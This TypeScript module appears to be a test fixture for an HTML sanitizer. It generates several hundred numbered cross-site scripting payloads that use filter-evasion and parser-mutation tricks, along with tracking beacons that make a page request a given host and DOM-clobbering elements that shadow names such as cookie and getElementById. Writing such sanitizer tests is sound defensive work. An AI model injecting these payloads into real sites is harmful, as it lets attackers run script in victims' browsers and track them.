/**
 * HTML that runs a program, or asks a stranger, in whatever page shows it unprotected. Each is marked with its number: an
 * `n` in the text keeps its words findable, and a program that runs calls `fired(n)`.
 */
export type Payload = { readonly html: string; readonly words: string };

const run = (n: number): string => `fired(${n})`;

/** Letters as numeric entities, by turns decimal, hexadecimal and padded, as filters have been fooled with. */
const entities = (text: string): string =>
  Array.from(text, (letter, at) => {
    const code = letter.codePointAt(0) ?? 0;
    return at % 3 === 0
      ? `&#${code};`
      : at % 3 === 1
        ? `&#x${code.toString(16)};`
        : `&#${String(code).padStart(7, "0")};`;
  }).join("");

const escapes = (text: string): string =>
  text.replace(/^[a-z]/, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`);

/** One handler's program, as it can be written in an attribute. */
const spellings: readonly ((code: string) => string)[] = [
  (code) => `"${code}"`,
  (code) => `'${code}'`,
  (code) => code,
  (code) => `"${entities(code)}"`,
  (code) => `"${escapes(code)}"`,
  (code) => `"javascript:${code}"`,
  (code) => `"\n${code}//"`,
  (code) => `"eval('${code}')"`,
  (code) => `"top.${code}"`,
];

/** Elements whose event comes by itself once they stand in a page. */
const eventful: readonly ((handler: (event: string) => string) => string)[] = [
  (on) => `<img src=x:x ${on("onerror")}>`,
  (on) => `<img src=x:x\t${on("OnErRoR")}>`,
  (on) => `<img/src=x:x/${on("onerror")} >`,
  (on) => `<image src=x:x ${on("onerror")}>`,
  (on) => `<svg ${on("onload")}></svg>`,
  (on) => `<svg/${on("onload")} >`,
  (on) => `<svg><g ${on("onload")}></g><image href=x:x ${on("onerror")}></image></svg>`,
  (on) => `<svg><animate ${on("onbegin")} attributeName=x dur=1s></animate></svg>`,
  (on) => `<svg><set ${on("onbegin")} attributename=x dur=1s></set></svg>`,
  (on) => `<iframe srcdoc="" ${on("onload")}></iframe>`,
  (on) => `<iframe src="about:blank" ${on("onload")}></iframe>`,
  (on) => `<video src=x:x ${on("onerror")}></video>`,
  (on) => `<video><source src=x:x ${on("onerror")}></video>`,
  (on) => `<audio src=x:x ${on("onerror")}></audio>`,
  (on) => `<audio src=x:x ${on("onloadstart")}></audio>`,
  (on) => `<object data=x:x ${on("onerror")}></object>`,
  (on) => `<embed src="about:blank" ${on("onload")}>`,
  (on) => `<details open ${on("ontoggle")}><summary>more</summary>x</details>`,
  (on) => `<script src=x:x ${on("onerror")}></script>`,
  (on) => `<link rel=stylesheet href=x:x ${on("onerror")}>`,
  (on) => `<style ${on("onload")}>p{}</style>`,
  (on) => `<input type=image src=x:x ${on("onerror")}>`,
  (on) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;"><img src=x:x ${on("onerror")}></table></mtext></math>`,
  (on) =>
    `<noscript><p title="</noscript><img src=x:x ${on("onerror")}>"></noscript><img src=x:x ${on("onerror")}>`,
  (on) => `<svg></p><style><a id="</style><img src=x:x ${on("onerror")}>"></svg>`,
  (on) => `<title><a title="</title><img src=x:x ${on("onerror")}>"></title>`,
  (on) => `<textarea></textarea><img src=x:x ${on("onerror")}>`,
  (on) => `<!--><img src=x:x ${on("onerror")}>-->`,
  (on) => `<table><tr><td><form><form><img src=x:x ${on("onerror")}></table>`,
  (on) => `<select><option><img src=x:x></select><img src=x:x ${on("onerror")}>`,
];

const scripts: readonly ((n: number) => string)[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<SCRIPT\n>${run(n)}</SCRIPT >`,
  (n) => `<script type="module">${run(n)}</script>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><script href="data:text/javascript,${run(n)}"></script></svg>`,
  (n) => `<script src="data:text/javascript,${run(n)}"></script>`,
  (n) => `<iframe srcdoc="<script>parent.${run(n)}</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${run(n)}"></iframe>`,
  (n) => `<iframe src="${entities("javascript:")}parent.${run(n)}"></iframe>`,
  (n) => `<object data="javascript:${run(n)}"></object>`,
  (n) => `<embed src="javascript:${run(n)}">`,
  (n) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run(n)}</script>"></iframe></foreignObject></svg>`,
  (n) => `<template shadowrootmode="open"><script>${run(n)}</script></template><script>${run(n)}</script>`,
  (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt><script>${run(n)}</script>`,
];

/** Programs behind a link or a form, which a click would start. */
const clickable: readonly string[] = [
  "javascript:CODE",
  "JaVaScRiPt:CODE",
  " \u0001javascript:CODE",
  "java\tscript:CODE",
  "java&NewLine;script:CODE",
  "javascript&colon;CODE",
  `${entities("javascript")}:CODE`,
  "javascript://%0aCODE",
  "data:text/html,<script>opener.CODE</script>",
];

const numbered = (n: number, html: string): Payload => ({
  html: `<p>words${n}a</p>${html}<p>words${n}b</p>`,
  words: `words${n}a`,
});

const handler = (spelling: (code: string) => string, n: number) => (event: string) =>
  `${event}=${spelling(run(n))}`;

/** More than 300. The last ones fire when clicked. */
export const payloads = (): readonly Payload[] => {
  const made: Payload[] = [];
  for (const element of eventful) {
    for (const spelling of spellings)
      made.push(numbered(made.length, element(handler(spelling, made.length))));
  }
  for (const script of scripts) made.push(numbered(made.length, script(made.length)));
  for (const address of clickable) {
    for (const [open, close] of [
      ['<a href="', '">press</a>'],
      ['<form action="', '"><button>press</button></form>'],
      ['<button formaction="', '">press</button>'],
    ]) {
      const n = made.length;
      made.push(numbered(n, `${open}${address.replace("CODE", run(n))}${close}`));
    }
  }
  return made;
};

/** Bodies that ask `host` without a program: pixels, styles, pings, prefetches, refreshes. */
export const beacons = (host: string): readonly string[] => [
  `<img src="${host}/img.gif" width=1 height=1>`,
  `<img src="${host}/shown.png" width=300 height=200 alt="chart">`,
  `<img srcset="${host}/set.gif 1x, ${host}/set2.gif 2x">`,
  `<picture><source srcset="${host}/source.gif"><img src="${host}/picture.gif" width=90></picture>`,
  `<style>@import url("${host}/import.css"); body{background:url(${host}/style.gif)}</style>`,
  `<p style="background:url(${host}/inline.gif)">x</p>`,
  `<p style="list-style:url('${host}/list.gif');content:url(${host}/c.gif)">x</p>`,
  `<table background="${host}/table.gif"><tr><td background="${host}/td.gif">x</td></tr></table>`,
  `<video src="${host}/v.mp4" poster="${host}/poster.gif" autoplay></video><audio src="${host}/a.mp3" autoplay></audio>`,
  `<link rel=stylesheet href="${host}/l.css"><link rel=preload as=image href="${host}/p.gif"><link rel=dns-prefetch href="${host}">`,
  `<iframe src="${host}/frame"></iframe><object data="${host}/object"></object><embed src="${host}/embed">`,
  `<meta http-equiv=refresh content="0;url=${host}/refresh"><base href="${host}/">`,
  `<svg><image href="${host}/svg.gif"></image><use href="${host}/use.svg#x"></use></svg>`,
  `<input type=image src="${host}/input.gif"><body background="${host}/body.gif">`,
];

/** Elements that take the names of what scripts look for. */
export const clobbers: readonly string[] = [
  '<form id="__NEXT_DATA__"><input name="getElementById"><input name="querySelector"><input name="children"></form>',
  '<img name="getElementById"><img name="cookie"><img name="location"><img id="body" name="body">',
  '<a id="location" href="clobber:1"></a><a id="localStorage"></a><a id="history" name="pushState"></a>',
  '<form name="fetch" id="fetch"><input name="then"></form><form id="document"><input name="createElement"></form>',
  '<iframe name="React" srcdoc=""></iframe><a id="next"></a><a id="__next_f"></a><img name="activeElement">',
  '<form id="crypto"><input name="randomUUID"></form><a id="main"></a><a id="queue-title"></a><a id="JSON"></a>',
];
